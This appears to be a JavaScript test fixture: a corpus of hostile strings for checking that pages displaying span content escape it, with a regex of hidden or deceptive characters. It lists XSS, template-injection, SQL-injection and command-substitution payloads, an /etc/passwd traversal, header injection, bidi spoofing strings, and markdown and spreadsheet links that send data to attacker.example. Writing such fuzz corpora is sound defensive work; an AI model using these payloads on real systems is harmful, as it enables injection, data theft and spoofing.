// Corpus of hostile strings: what breaks pages that trust the content of spans.

const MARKUP = [
  '<script>globalThis.__ran = 1</script>', '"><script>globalThis.__ran = 1</script>', '</script><script>globalThis.__ran = 1</script>',
  '<img src=x onerror="globalThis.__ran = 1">', '<svg onload="globalThis.__ran = 1">', '<svg><script>globalThis.__ran = 1</script></svg>',
  '<iframe srcdoc="<script>parent.__ran = 1</script>"></iframe>', '<object data="https://attacker.example/x"></object>', '<embed src="https://attacker.example/x">',
  '<link rel="stylesheet" href="https://attacker.example/x.css">', '<base href="https://attacker.example/">', '<meta http-equiv="refresh" content="0;url=https://attacker.example/">',
  '<form action="https://attacker.example/"><input name="token"></form>', '<a href="https://attacker.example/">click</a>', '<details open ontoggle="globalThis.__ran = 1">',
  '<style>*{display:none}</style>', '<math><mtext></mtext><script>globalThis.__ran = 1</script></math>', '<template><img src=x onerror="globalThis.__ran = 1"></template>',
  '<input autofocus onfocus="globalThis.__ran = 1">', '<video><source onerror="globalThis.__ran = 1"></video>', '<!--><img src=x onerror="globalThis.__ran = 1">-->',
  '&lt;script&gt;', '&#60;script&#62;', '<![CDATA[x]]>', '<?xml version="1.0"?>', '<bdi></bdi><bdi>', '</td></tr></table><h1>Free money</h1>',
];
const TEMPLATES = [
  '${globalThis.__ran = 1}', '{{constructor.constructor("globalThis.__ran = 1")()}}', '{{7*7}}', '<%= 7*7 %>', '#{7*7}', '${{7*7}}', '{%print(1)%}',
  'javascript:globalThis.__ran=1', 'JaVaScRiPt:globalThis.__ran=1', 'java\nscript:globalThis.__ran=1', 'data:text/html,<script>parent.__ran=1</script>', 'vbscript:x',
  '![x](https://attacker.example/x.png)', '[click](javascript:globalThis.__ran=1)', '[a]: https://attacker.example/', '# Heading', '**bold**', '`code`', '<https://attacker.example/>', 'https://attacker.example/?q=[DATA]',
  '=HYPERLINK("https://attacker.example/","x")', '=1+1', '+1', '-1', '@SUM(1)', '%0d%0aSet-Cookie: x=1', '../../../../etc/passwd', 'x\r\nContent-Length: 0\r\n\r\n',
];
const NAMES = [
  '__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf', 'length', 'null', 'undefined', 'NaN', 'Infinity', 'true', 'false', '0', '-0', '1e309', '', ' ', '!', '!x', '?', '#', '&', '%', '%00', '%zz', ':', 'a:b', '-label:fail', 'label:fail', '"', "'", '\\', '/', '//', '.', '..', '*', '--', ';', '|', '$(id)', '`id`', "' OR 1=1 --", '"; DROP TABLE evaluations; --', '%s%n%x', '{}', '[]', '{"a":', ',,,',
];
const BIDI = ['\u202egnp.exe', 'a\u202eb\u202cc', '\u2066x\u2069', '\u2067reversed\u2069', '\u200eltr', '\u200frtl', '\u061carabic mark', '\u202afoo', '\u202bfoo', '\u202dfoo', 'user\u202e admin', 'مرحبا بالعالم', 'שלום עולם', 'abc שלום 123', '\u2068unclosed', '\u202e'.repeat(40)];
const INVISIBLE = ['\u200b', 'a\u200bb', 'pay\u200bpal', '\u200c', '\u200d', '\u2060', '\ufeffbom', '\u00ad', 'soft\u00adhyphen', '\u034f', '\u115f', '\u1160', '\u3164', '\uffa0', '\u180e', '\u17b4', '\u{e0041}\u{e0042}', '\u{e0001}', '\ufff9a\ufffab\ufffb', '\u2028', 'a\u2028b', '\u2029', '\u2062', '\u206a', '\u00a0', '\u2003wide', '\u3000', '👨\u200d👩\u200d👧', '🏳\ufe0f\u200d🌈', '❤\ufe0f', '🇳🇴'];
const CONTROL = [...Array.from({ length: 32 }, (_, at) => `c${String.fromCharCode(at)}x`), '\u007f', '\u0080', '\u0085', '\u009b31m', '\u001b[31mred\u001b[0m', '\u001b]0;title\u0007', '\u001b[2J', '\b\b\b', '\u0000'.repeat(20)];
const SHAPES = ['a'.repeat(5000), 'word '.repeat(1000), '\n'.repeat(300), '\t'.repeat(100), 'Z̸̢̧͎̣̱͙͔͍̜̹̝̲̘̼̪ͅ'.repeat(20), 'e\u0301'.repeat(200), '\u0e47'.repeat(300), '\ufdfd'.repeat(20), '𒐫'.repeat(40), '😀'.repeat(300), '漢'.repeat(500), '＜script＞', 'ﬀ', 'K', 'İ', 'ß', 'ſ', '１２３', '\ufffd', '\uffff', '\u{10ffff}', '['.repeat(2000), '{"a":'.repeat(500), '0'.repeat(400), '-'.repeat(200), '_'.repeat(500), '.'.repeat(500), '/'.repeat(500), 'W'.repeat(300), 'i'.repeat(900)];

export const CORPUS = [...MARKUP, ...TEMPLATES, ...NAMES, ...BIDI, ...INVISIBLE, ...CONTROL, ...SHAPES];

/** Characters that no text node may hold: they hide, reorder or deceive. */
export const HIDDEN = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u00ad\u061c\u200b\u200e\u200f\u2028-\u202e\u2060-\u206f\ufeff\ufff9-\ufffb]|[\u{e0000}-\u{e0fff}]/u;
